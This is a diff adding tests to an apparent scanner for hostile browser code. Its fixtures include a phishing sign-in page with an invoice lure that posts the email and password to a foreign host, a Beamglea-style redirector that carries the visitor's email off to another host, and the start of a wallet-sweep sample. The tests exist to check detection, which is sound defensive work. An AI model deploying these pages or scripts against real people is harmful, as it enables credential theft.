@@ -1160,6 +1160,37 @@ describe('browser-payload', () => {
     expect(scraper.ids).not.toContain('browser-payload/phishingLure');
   });
 
+  it('a shipped sign-in page posting the password to a foreign host is a phishing page; a demo posting to its own path, or to its own site, is not', () => {
+    const page = (action: string) => `<!DOCTYPE html><html><body><h3>Invoice_Q4.pdf</h3><p>Verify your email account to view it.</p>
+<form id="f" method="POST" action="${action}">
+  <input id="e" name="login" type="email" required>
+  <input name="passwd" type="password" required>
+  <button type="submit">View Document</button>
+</form>
+<script>var h = decodeURIComponent(location.hash.slice(1)); if (h.indexOf('@') > 0) document.getElementById('e').value = h;</script>
+</body></html>
+`;
+    const r = scan({ 'index.html': page('https://docview-verify-portal.top/auth/next.php') });
+    expect(r.findings.find((f) => f.messageId === 'credentialForm')?.data).toMatchObject({ host: 'docview-verify-portal.top' });
+    expect(r.level).toMatch(/high|critical/);
+    expect(scan({ 'index.html': page('/login') }).ids).not.toContain('browser-payload/credentialForm');
+    expect(scan({ 'index.html': page('https://auth.form-kit.dev/login') }, { homepage: 'https://form-kit.dev' }).ids).not.toContain('browser-payload/credentialForm');
+  });
+
+  it("a script that takes the visitor's e-mail from the page and navigates away with it is a redirector (Beamglea); a sign-in page reading a token from the fragment is not", () => {
+    const redirector = `(function () {
+  var e = (window.email || '').trim();
+  if (!e && location.hash.length > 1) e = decodeURIComponent(location.hash.slice(1));
+  if (e && !/@/.test(e)) { try { e = atob(e); } catch (x) {} }
+  setTimeout(function () { window.location.replace('https://' + H + '/o#' + encodeURIComponent(e)); }, 150);
+})();
+`;
+    const r = scan({ 'beamglea.js': redirector });
+    expect(r.ids).toContain('browser-payload/emailRedirect');
+    const oauth = "var p = new URLSearchParams(location.hash.slice(1)); var t = p.get('access_token'); if (t) { sessionStorage.setItem('t', t); location.replace('/app?next=' + encodeURIComponent(p.get('state'))); }\n";
+    expect(scan({ 'callback.js': oauth }).ids).not.toContain('browser-payload/emailRedirect');
+  });
+
   it("a share of the balance transferred to a hard-coded address is a sweep; a fee on the amount sent, or the caller's own send-max, is not", () => {
     const sdk = (fee: string) => `import { PublicKey, SystemProgram, Transaction } from '@solana/web3.js';
 const FEE_VAULT = new PublicKey('6aWnS7yE8fZ1dKqkq3Rr1rY5oQk2xM9bV4cT8hN3pJfA');
